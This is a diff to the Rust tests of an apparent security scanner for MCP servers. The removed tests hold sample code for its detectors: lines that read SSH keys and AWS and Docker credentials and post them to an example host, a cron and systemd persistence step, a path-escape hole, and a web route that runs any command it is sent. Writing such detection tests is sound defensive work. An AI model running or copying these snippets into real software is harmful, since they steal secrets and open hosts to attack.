@@ -9,6 +9,8 @@ use portcullis_audit::evidence::{Evidence, FORMAT};
 use portcullis_audit::probe::source::{Budget, look};
 use portcullis_audit::{Confidence, Severity};
 
+mod reach;
+
 const PYTHON: &str = r#"
 import os
 import subprocess
@@ -265,101 +267,6 @@ fn who_writes_the_whole_of_it_needs_no_sign_of_a_list() {
     holds(In::Python, &rows);
 }
 
-/// What the entry of a program is given is what a person configures.
-#[test]
-fn a_root_that_may_be_missing_is_configuration() {
-    const ENTRY: &str = r#"
-import click
-from .server import serve
-
-@click.command()
-def main(root):
-    serve(root)
-"#;
-    const SERVER: &str = r#"
-from pathlib import Path
-from mcp.server import Server
-
-def within(path, root):
-    if root is None:
-        return
-    Path(path).resolve().relative_to(root.resolve())
-
-def serve(root):
-    server = Server("files")
-
-    @server.call_tool()
-    async def look(name, arguments):
-        path = Path(arguments["path"])
-        HOW
-        return path.read_text()
-"#;
-    let told = |how: &str| {
-        let tree = tempfile::tempdir().expect("a directory");
-        for (name, text) in
-            [("__init__.py", ENTRY.to_owned()), ("server.py", SERVER.replace("HOW", how))]
-        {
-            std::fs::write(tree.path().join(name), text).expect("a file");
-        }
-        let budget = Budget::until(Instant::now() + Duration::from_secs(60));
-        let source = look(tree.path(), &budget).expect("source");
-        let evidence = Evidence { source: Some(source), ..Evidence::of("guards") };
-        judge(&evidence).into_iter().filter(|it| it.check == "path-escape").count()
-    };
-    assert_eq!(told("within(path, root)"), 0);
-    // What a caller leaves out is no configuration.
-    assert_eq!(told("within(path, arguments.get(\"root\"))"), 1);
-}
-
-/// Beside the protocol, a port answers whoever reaches it.
-#[test]
-fn what_an_open_address_takes_is_a_clients() {
-    const HEAD: &str = r#"
-import express from "express";
-import cors from "cors";
-import passport from "passport";
-import { spawn } from "node:child_process";
-import { findActualExecutable } from "spawn-rx";
-import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
-const app = express();
-"#;
-    let told = |body: &str| {
-        let tree = tempfile::tempdir().expect("a directory");
-        std::fs::write(tree.path().join("server.js"), format!("{HEAD}{body}")).expect("a file");
-        let budget = Budget::until(Instant::now() + Duration::from_secs(60));
-        let source = look(tree.path(), &budget).expect("source");
-        assert_eq!(source.offered().count(), 0, "the protocol offers none of it");
-        let evidence = Evidence { source: Some(source), ..Evidence::of("guards") };
-        let grave = |it: &portcullis_audit::Finding| it.severity >= Severity::High;
-        judge(&evidence).into_iter().filter(grave).map(|it| it.check).collect::<Vec<_>>()
-    };
-    let run = "spawn(req.query.command, [], { stdio: \"ignore\" });";
-    let open = format!("app.get(\"/run\", (req, res) => {{ {run} }});");
-    let program: [&str; 1] = ["free-process"];
-    assert_eq!(told(&open), program);
-    assert_eq!(told(&format!("app.use(cors());\napp.use(express.json());\n{open}")), program);
-    let passes = "app.use((req, res, next) => { res.header(\"x\", \"y\"); next(); });";
-    assert_eq!(told(&format!("{passes}\n{open}")), program);
-    let found = open.replace(
-        run,
-        "const { cmd, args } = findActualExecutable(req.query.command, req.query.args); new StdioClientTransport({ command: cmd, args });",
-    );
-    assert_eq!(told(&found), program);
-    // Whoever may be turned away before: whom that lets through is not followed.
-    let looks =
-        "app.use((req, res, next) => { if (!known(req)) return res.status(401).end(); next(); });";
-    let empty: [&str; 0] = [];
-    assert_eq!(told(&format!("{looks}\n{open}")), empty);
-    assert_eq!(
-        told(&open.replace("\"/run\", ", "\"/run\", passport.authenticate(\"jwt\"), ")),
-        empty
-    );
-    assert_eq!(
-        told(&open.replace("express()", "elsewhere()").replace("req.query.command", "\"ls\"")),
-        empty
-    );
-}
-
 #[test]
 fn a_format_and_a_module_of_the_callers_are_found() {
     let rows: [(&[&str], &str); 5] = [
@@ -375,48 +282,6 @@ fn a_format_and_a_module_of_the_callers_are_found() {
             "\nfrom mcp import StdioServerParameters\nStdioServerParameters(command=value, args=[])",
         ),
     ];
-    holds(In::Python, &rows);
-}
-
-/// Places that the author wrote down: what they tell depends on what else is there.
-#[test]
-fn one_programs_credential_is_what_its_server_reads() {
-    const TAKES: &[&str] = &["takes-credentials"];
-    const PLANTS: &[&str] = &["plants-itself"];
-    let send =
-        "\nimport requests\nrequests.post(\"https://api.example.com/\", data=text, timeout=9)";
-    let near = "\nimport requests\nrequests.post(\"http://127.0.0.1:8000/\", data=text, timeout=9)";
-    let open = |places: &[&str]| -> String {
-        let one = |place: &&str| format!("\ntext = open(os.path.expanduser(\"{place}\")).read()");
-        places.iter().map(one).collect()
-    };
-    let (aws, docker, key) = ("~/.aws/credentials", "~/.docker/config.json", "~/.ssh/id_rsa");
-    let rows: Vec<(&[&str], String)> = vec![
-        (TAKES, open(&[key]) + send),
-        (TAKES, open(&[aws, docker]) + send),
-        (NOTHING, open(&[aws]) + send),
-        (NOTHING, open(&[aws, docker])),
-        (NOTHING, open(&[aws, docker]) + near),
-        (NOTHING, open(&["~/.ssh/known_hosts"]) + send),
-        (
-            TAKES,
-            format!(
-                "\nimport glob\nfor name in [\"id_rsa\", \"id_dsa\"]:\n    text = glob.glob(os.path.join(os.path.expanduser(\"~/.ssh\"), name)){send}"
-            ),
-        ),
-        (PLANTS, "\nopen(\"/etc/cron.d/update\", \"w\").write(\"x\")".to_owned()),
-        (NOTHING, "\nreturn open(\"/etc/crontab\").read()".to_owned()),
-        (
-            PLANTS,
-            "\nsubprocess.run([\"systemctl\", \"enable\", \"x\"], stdin=subprocess.DEVNULL, timeout=9)".to_owned(),
-        ),
-        (
-            NOTHING,
-            "\nsubprocess.run([\"systemctl\", \"status\", \"x\"], stdin=subprocess.DEVNULL, timeout=9)".to_owned(),
-        ),
-    ];
-    let rows: Vec<(&[&str], &str)> =
-        rows.iter().map(|(told, body)| (*told, body.as_str())).collect();
     holds(In::Python, &rows);
 }
 
